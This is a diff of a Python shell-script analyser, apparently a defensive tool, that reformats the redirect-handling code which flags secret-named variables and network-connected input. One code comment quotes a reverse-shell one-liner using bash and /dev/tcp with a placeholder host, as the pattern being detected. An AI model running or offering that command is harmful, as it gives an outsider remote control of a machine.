@@ -17,7 +17,9 @@ FROM_NETWORK = Stream(None, frozenset((REMOTE,)))
 Sinks = list[tuple[str, Field]]
 
 
-def apply_redirects(shell: Machine, redirects: tuple[Redirect, ...], stdin: Stream) -> tuple[Stream, Sinks]:
+def apply_redirects(
+    shell: Machine, redirects: tuple[Redirect, ...], stdin: Stream
+) -> tuple[Stream, Sinks]:
     """Return the input of a command and the target file of each descriptor."""
     sinks: Sinks = []
     for redirect in redirects:
@@ -27,14 +29,24 @@ def apply_redirects(shell: Machine, redirects: tuple[Redirect, ...], stdin: Stre
             if TOKEN in target.taints:
                 reason = "reads a variable that is named like a secret, and may print it"
                 shell.emit(Kind.CREDENTIAL, None, reason, redirect.span)
-        elif redirect.operator in (">&", "<&") and (number := DESCRIPTOR.fullmatch(target.text or "x")):
+        elif redirect.operator in (">&", "<&") and (
+            number := DESCRIPTOR.fullmatch(target.text or "x")
+        ):
             opened = shell.scope.descriptors.get(number[1])
-            if redirect.descriptor in ("0", "") and number[1] in ("1", "2") and is_connected(shell, sinks):
+            if (
+                redirect.descriptor in ("0", "")
+                and number[1] in ("1", "2")
+                and is_connected(shell, sinks)
+            ):
                 # `true | bash -i >& /dev/tcp/HOST/4444 0>&1`: the input is the connection, whatever the pipe holds.
                 stdin = FROM_NETWORK
             if opened and redirect.operator == ">&":
                 sinks.append((redirect.descriptor, literal(opened, redirect.span)))
-            elif redirect.operator == ">&" and redirect.descriptor in OUTPUT and number[1] == "2":
+            elif (
+                redirect.operator == ">&"
+                and redirect.descriptor in OUTPUT
+                and number[1] == "2"
+            ):
                 sinks.append(("", literal("/dev/stderr", redirect.span)))
             elif opened:
                 stdin = read_path(shell, literal(opened, redirect.span), redirect.span)
